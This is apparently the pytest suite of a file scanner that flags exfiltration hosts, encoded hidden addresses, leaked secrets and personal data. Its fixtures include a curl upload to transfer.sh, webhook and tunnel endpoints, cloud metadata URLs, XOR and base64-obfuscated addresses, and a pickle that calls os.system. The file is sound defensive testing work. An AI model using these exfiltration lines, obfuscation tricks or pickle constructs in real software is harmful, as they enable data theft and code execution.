"""The search that every text goes through: addresses in the clear and hidden, secrets, data about people."""

from __future__ import annotations

import base64
import json
import pickle

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from build import secret_samples as secrets
from build.inspecting import LIMITS, inspected, rules_of, scanned
from weighbridge.core.facts import Address, PersonalData, Secret
from weighbridge.core.findings import Severity
from weighbridge.core.known_texts import forms, hosts, words
from weighbridge.core.limits import Budget
from weighbridge.formats.texts.anchors import Anchors
from weighbridge.formats.texts.embedded import embedded_in_text
from weighbridge.formats.texts.searched import MOST, searched, searched_people

CATCHER = "https://webhook.site/0f3c1d5a-aaaa-bbbb-cccc-000011112222"
IP = "http://45.67.89.10/gate"


def facts(text: str) -> list[object]:
    return [
        fact
        for fact in embedded_in_text(text, "text", 0, Budget(LIMITS, len(text)))
        if isinstance(fact, Address | Secret)
    ]


def xored(text: str, key: int) -> bytes:
    return bytes(byte ^ key for byte in text.encode())


PLAIN = {
    CATCHER: "catcher",
    "https://discord.com/api/webhooks/123456789012345678/abc": "chat-hook",
    "https://canary.discord.com/api/webhooks/123456789012345678/abc": "chat-hook",
    "https://api.telegram.org/bot12345:AA/sendMessage": "chat-hook",
    "https://contoso.webhook.office.com/webhookb2/x": "chat-hook",
    "POST to 4f2.oast.fun now": "catcher",
    "x.burpcollaborator.net": "catcher",
    "https://pastebin.com/raw/abcd1234": "paste",
    "curl -T f https://transfer.sh/f": "paste",
    "tcp://0.tcp.ngrok.io:12345": "tunnel",
    "https://calm-river.trycloudflare.com": "tunnel",
    "http://169.254.169.254/metadata/identity/oauth2/token?resource=x": "metadata",
    "os.environ['IDENTITY_ENDPOINT']": "metadata",
    "http://metadata.google.internal/computeMetadata/v1/": "metadata",
    "http://" + "a2" * 28 + ".onion/": "onion",
    IP: "ip",
    "http://user@45.67.89.10/": "ip",
    "connect 45.67.89.10:4444": "ip-port",
    "http://757291274/x": "ip",
    "http://0x2d43590a/": "ip",
    "http://0x2d.0x43.0x59.0xa/": "ip",
    "http://[2a01:4f8::1]/x": "ip",
}
HIDDEN = {
    "base64": (base64.b64encode(CATCHER.encode()).decode(), "base64"),
    "base64 behind one letter": (base64.b64encode(b"x" + CATCHER.encode()).decode(), "base64"),
    "base64 behind two letters": (base64.b64encode(b"xy" + CATCHER.encode()).decode(), "base64"),
    "base64 of an address without encryption": (base64.b64encode(IP.encode()).decode(), "base64"),
    "base64 for addresses": ("u=" + base64.urlsafe_b64encode(CATCHER.encode()).decode(), "base64"),
    "hexadecimal": (CATCHER.encode().hex(), "hex"),
    "escapes": ("".join(f"\\x{byte:02x}" for byte in CATCHER.encode()), "escapes"),
    "percent": ("".join(f"%{byte:02x}" for byte in IP.encode()), "escapes"),
    "backwards": (CATCHER[::-1], "reversed"),
    "one byte, in base64": (base64.b64encode(xored(CATCHER, 0x5A)).decode(), "base64+xor"),
    "one byte, in hexadecimal": (xored(IP, 0xA7).hex(), "hex+xor"),
}
QUIET = (
    "https://huggingface.co/org/model https://github.com/org/repo https://arxiv.org/abs/1706.03762",
    "http://127.0.0.1:8000 http://0.0.0.0:80 http://localhost:3000 http://192.168.1.7/ http://10.0.0.1:4444 http://[::1]/",
    "192.0.2.1:4444 http://203.0.113.9/x 8.8.8.8:53 version 1.2.3.4:5 section 3.1.2.4",
    "https://discord.gg/abc https://discord.com/invite/abc https://slack.com/x https://pastebin.com https://t.me/x",
    "discord.com.evil-is-not-listed.org hooks.slack.com.example.org notwebhook.site.example",
    "file.io and ifconfig.me and ix.io are names in code: java.io.File.io",
    "aHR0 aHR0cHM6 68747470 //: :// ptth//: 3.14.15.92653 2024.01.02.03",
    "v1.10.200.300 1.2.3.4.5.6.7 99.99.99.999:80 12.34.56.78.90:1",
)


@pytest.mark.parametrize("text", PLAIN)
def test_addresses(text):
    found = [fact for fact in facts(text) if isinstance(fact, Address)]
    assert PLAIN[text] in {fact.kind for fact in found}
    assert all(text.encode()[fact.offset :] for fact in found)


@pytest.mark.parametrize("name", HIDDEN)
@pytest.mark.parametrize("around", ["{}", "x = '{}'\n", '{{"k": "{}"}}'])
def test_hidden_addresses(name, around):
    text, encoding = HIDDEN[name]
    found = [fact for fact in facts(around.format(text)) if isinstance(fact, Address)]
    assert encoding in {fact.encoding for fact in found}


@pytest.mark.parametrize("name", ["base64", "hexadecimal", "escapes", "percent"])
def test_each_of_several_hidden_addresses(name):
    other = {"base64": base64.b64encode(IP.encode()).decode(), "hexadecimal": IP.encode().hex()}
    other["escapes"] = "".join(f"\\x{byte:02x}" for byte in IP.encode())
    other["percent"] = HIDDEN["percent"][0]
    first = CATCHER.encode()
    texts = {"base64": base64.b64encode(first).decode(), "hexadecimal": first.hex()}
    texts["escapes"] = HIDDEN["escapes"][0]
    texts["percent"] = "".join(f"%{byte:02x}" for byte in first)
    text = f'a = "{texts[name]}"; b = "{texts[name]}"; c = "{other[name]}"'
    assert {fact.kind for fact in facts(text)} == {"catcher", "ip"}


@pytest.mark.parametrize("key", [1, 0x20, 0x41, 0x7F, 0x80, 0xFF])
def test_a_pickle_whose_bytes_are_changed(tmp_path, key):
    content = pickle.dumps({"b": b"\0\1" + xored("GET " + CATCHER, key)}, 4)
    assert "network/hidden-address" in rules_of(scanned(tmp_path, "m.pkl", content))


@pytest.mark.parametrize("text", QUIET)
def test_ordinary_texts_are_quiet(text):
    assert facts(text) == []


@pytest.mark.parametrize("kind", secrets.made())
@pytest.mark.parametrize("around", ["{}", "# Model\n\nüse {} then\n", "a" * 500 + "\n{}\n" + "b " * 500])
def test_secrets_are_found_and_not_repeated(kind, around):
    line, secret = secrets.made()[kind]
    text = around.format(line)
    found = [fact for fact in facts(text) if isinstance(fact, Secret)]
    assert kind in {fact.kind for fact in found}
    (fact,) = [fact for fact in found if fact.kind == kind]
    assert text.encode()[fact.offset :].decode().startswith(secret)
    assert fact.size == len(secret)
    assert secret not in repr(fact)


def test_every_form_has_a_test():
    assert {form.kind for form in forms()} | {"assigned-secret"} == set(secrets.made())


@pytest.mark.parametrize("text", secrets.EXAMPLES)
def test_examples_of_documentation_are_quiet(text):
    assert [fact for fact in facts(text) if isinstance(fact, Secret)] == []


def test_a_checksum_decides():
    right = secrets.checked("ghp_")
    (fact,) = facts(right)
    assert fact.checked
    wrong = right[:-1] + ("A" if right[-1] != "A" else "B")
    assert facts(wrong) == []


@pytest.mark.parametrize("name", ["config.json", "README.md", "notes.txt", "run.py", "conf.yaml", "m.pkl"])
def test_every_format_is_searched(tmp_path, name):
    token = secrets.made()["huggingface-token"][1]
    value = {"url": CATCHER, "t": token}
    forms_ = {
        "config.json": json.dumps(value),
        "run.py": f"VALUE = {value!r}\n",
        "conf.yaml": json.dumps(value),
        "m.pkl": pickle.dumps(value, 4),
    }
    content = forms_.get(name, str(value))
    report = scanned(tmp_path, name, content if isinstance(content, bytes) else content.encode())
    assert {"network/exfiltration-host", "secret/known-form"} <= rules_of(report)
    severities = {one.rule: one.severity for one in report.findings}
    read = name in ("README.md", "notes.txt")
    assert severities["network/exfiltration-host"] is (Severity.MEDIUM if read else Severity.HIGH)
    assert severities["secret/known-form"] is Severity.HIGH


def test_escapes_of_json_hide_nothing(tmp_path):
    text = json.dumps({"url": CATCHER}).replace("/", "\\/").replace("webhook", "\\u0077ebhook")
    assert "network/exfiltration-host" in rules_of(scanned(tmp_path, "config.json", text.encode()))


def test_what_is_far_behind_in_a_large_pickle(tmp_path):
    content = pickle.dumps([bytes(3 << 20), CATCHER, secrets.made()["huggingface-token"][1]], 4)
    assert {"network/exfiltration-host", "secret/known-form"} <= rules_of(scanned(tmp_path, "m.pkl", content))


def test_a_window_cuts_nothing(tmp_path):
    for name in ("a.txt", "m.pkl"):
        for border in (1 << 20, 4 << 20):
            text = "x " * ((border - 10) // 2) + CATCHER + " y" * 3000
            content = text.encode() if name == "a.txt" else pickle.dumps(text, 4)
            report = scanned(tmp_path, name, content)
            texts = [one.evidence.text for one in report.findings if one.rule == "network/exfiltration-host"]
            assert len(texts) == 1, (name, border)


def test_much_of_a_kind_is_told_in_part():
    text = "\n".join(f"http://45.67.{first}.{second}/" for first in range(20, 40) for second in range(20, 40))
    assert len(facts(text)) == MOST


def test_people():
    def kinds(text: str) -> dict[str, int]:
        found = searched_people(text, "text", Budget(LIMITS, len(text)))
        return {fact.kind: fact.values for fact in found if isinstance(fact, PersonalData)}

    assert kinds("\n".join(f"person{number}@mail.invalid" for number in range(30))) == {"e-mail addresses": 30}
    assert kinds("\n".join(["one@mail.invalid"] * 50)) == {}
    assert kinds("card 4539 1488 0343 6467, 4539-1488-0343-6467, 5425 2334 3010 9903") == {"card numbers": 3}
    assert kinds("4539 1488 0343 6468 4539148803436467 4242 4242 4242 4242 1234 5678 9012 3456") == {}
    assert kinds("pay to DE89 3704 0044 0532 0130 00 or GB82WEST12345698765432") == {"account numbers (IBAN)": 2}
    assert kinds("DE88 3704 0044 0532 0130 00 and AB12CDEF34GH") == {}
    assert kinds("SSN: 536-90-4399, ssn 000-12-3456, 666-12-3456") == {"social security numbers": 1}
    assert kinds("tel 536-90-4399") == {}


def test_people_are_a_remark(tmp_path):
    text = "\n".join(f"person{number}@mail.invalid" for number in range(30)) + "\ncard 4539 1488 0343 6467\n"
    report = scanned(tmp_path, "notes.txt", text.encode())
    assert report.verdict.value == "clean"
    assert "4539" not in repr(report.findings)
    assert "secret/personal-data" in rules_of(report)


@given(st.lists(st.sampled_from(["a", "_", "hf_", "://", "Account", "Key=", "AKIA", "=", ".", "~"]), max_size=40))
def test_anchors_find_what_find_finds(pieces):
    text = "".join(pieces)
    texts = ("hf_", "AccountKey=", "://", "AKIA", "_a", "~=", "a.")
    expected = {(one, place) for one in texts for place in range(len(text)) if text.startswith(one, place)}
    found = set(Anchors(texts).found(text))
    assert found <= expected
    assert {one for one, _ in found} == {one for one, _ in expected}
    assert {pair for pair in expected if pair[0] != "AKIA"} <= found


@settings(max_examples=80, deadline=None)
@given(
    st.text(max_size=300)
    | st.lists(
        st.sampled_from(
            [
                "http://",
                "https://",
                ".",
                "45.67.89.10",
                ":4444",
                "aHR0cHM6Ly",
                "68747470",
                "%68%74%74%70",
                "//:ptth",
                "://0x",
                "://[",
                "webhook.site",
                "sig=",
                "eyJ",
                ".eyJ",
                "PRIVATE KEY",
                "-----BEGIN ",
            ]
        ),
        max_size=40,
    ).map("".join)
)
def test_any_text_is_searched(text):
    for fact in searched(text, "text", 0, Budget(LIMITS, len(text))):
        assert fact.offset <= len(text.encode("utf-8", "surrogatepass"))


@pytest.mark.parametrize(
    "piece",
    [
        "://",
        "http://0",
        ".com",
        "aHR0c",
        "68747470",
        "eyJ.eyJ",
        "api_key='",
        "PRIVATE KEY-----",
        "hf_",
        "://a:b@",
        "//:ptth",
        "%68%74%74%70",
        "1.2.3.",
    ],
)
def test_repetition_ends(piece):
    assert len(facts(piece * (200_000 // len(piece)))) <= 10 * MOST


def test_the_knowledge_has_sources(tmp_path):
    del tmp_path
    assert len(hosts()) > 100
    assert words()
    assert all(form.anchors and form.why for form in forms())


def test_facts_of_a_scan_repeat_no_secret(tmp_path):
    """Also in pieces, and in hexadecimal."""
    token = secrets.made()["huggingface-token"][1]
    (tmp_path / "config.json").write_text(json.dumps({"token": token, "auto_map": {"AutoModel": token}, token: 1}))
    (tmp_path / "m.pkl").write_bytes(
        b"\x80\x02cos\nsystem\nX" + len(token).to_bytes(4, "little") + token.encode() + b"\x85R."
    )
    found = inspected(tmp_path)
    text = repr(found.facts) + json.dumps(found.report.predicate())
    assert token.encode().hex()[:20] not in text
    assert not [place for place in range(3, len(token) - 8) if token[place : place + 8] in text]
